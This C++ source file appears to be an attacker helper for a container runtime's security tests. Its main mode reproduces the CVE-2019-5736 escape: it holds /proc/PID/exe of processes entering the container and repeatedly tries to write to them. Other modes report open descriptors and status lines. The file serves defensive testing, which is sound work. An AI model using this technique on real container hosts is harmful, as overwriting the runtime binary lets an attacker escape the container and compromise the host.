// attacks: what an attacker runs inside a container. A static program, copied into the test's image.
//
//   attacks overwrite-runtime SECONDS   opens /proc/PID/exe of whoever enters, tries to write to it; ends
//                                       early when /enough exists
//   attacks descriptors                 prints the open descriptors above 2
//   attacks status KEY                  prints one line of /proc/self/status
//
// It prints what it saw and did; the tests judge.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

namespace {

// Holds on to executables of other processes and opens them for writing, again and again: a running
// file refuses with ETXTBSY, so the attacker waits for the runtime's end (CVE-2019-5736).
constexpr int kMaxHeld = 64;

void try_to_write(int held, int& seen, int& written) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  const int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) {
    if (errno == EROFS || errno == EPERM || errno == EACCES || errno == ETXTBSY) ++seen;
    return;
  }
  if (write(fd, "owned", 5) == 5) ++written;
  close(fd);
}

// The executable of `pid` if it is none of the image's; judged by what was opened, because the process
// may execute another program meanwhile.
int open_foreign(const char* pid, char* target, size_t size) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return -1;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  const ssize_t length = readlink(path, target, size - 1);
  target[length > 0 ? length : 0] = '\0';
  if (length > 0 && strstr(target, "/bin/busybox") == nullptr && strcmp(target, "/attacks") != 0)
    return fd;
  close(fd);
  return -1;
}

int overwrite_runtime(int seconds) {
  int held[kMaxHeld];
  int count = 0, seen = 0, written = 0;
  char target[4096] = "";
  const time_t end = time(nullptr) + seconds;
  printf("ready\n");
  fflush(stdout);
  while (time(nullptr) < end && access("/enough", F_OK) != 0) {
    DIR* proc = opendir("/proc");
    while (const dirent* entry = proc ? readdir(proc) : nullptr) {
      if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
        continue;
      const int fd = count < kMaxHeld ? open_foreign(entry->d_name, target, sizeof target) : -1;
      if (fd >= 0) held[count++] = fd;
    }
    if (proc) closedir(proc);
    for (int i = 0; i < count; ++i) try_to_write(held[i], seen, written);
  }
  printf("held %d refused %d written %d last %s\n", count, seen, written, target);
  return 0;
}

int descriptors() {
  DIR* dir = opendir("/proc/self/fd");
  if (!dir) return 1;
  while (const dirent* entry = readdir(dir)) {
    const int fd = atoi(entry->d_name);
    if (entry->d_name[0] == '.' || fd <= 2 || fd == dirfd(dir)) continue;
    char path[300], target[4096] = "";
    snprintf(path, sizeof path, "/proc/self/fd/%s", entry->d_name);
    if (readlink(path, target, sizeof target - 1) < 0) target[0] = '\0';
    printf("%d %s\n", fd, target);
  }
  closedir(dir);
  return 0;
}

int status(const char* key) {
  FILE* file = fopen("/proc/self/status", "re");
  if (!file) return 1;
  char line[4096];
  while (fgets(line, sizeof line, file))
    if (strncmp(line, key, strlen(key)) == 0 && line[strlen(key)] == ':') fputs(line, stdout);
  fclose(file);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 3 && strcmp(argv[1], "overwrite-runtime") == 0)
    return overwrite_runtime(atoi(argv[2]));
  if (argc == 2 && strcmp(argv[1], "descriptors") == 0) return descriptors();
  if (argc == 3 && strcmp(argv[1], "status") == 0) return status(argv[2]);
  fprintf(stderr, "usage: attacks overwrite-runtime SECONDS | descriptors | status KEY\n");
  return 2;
}
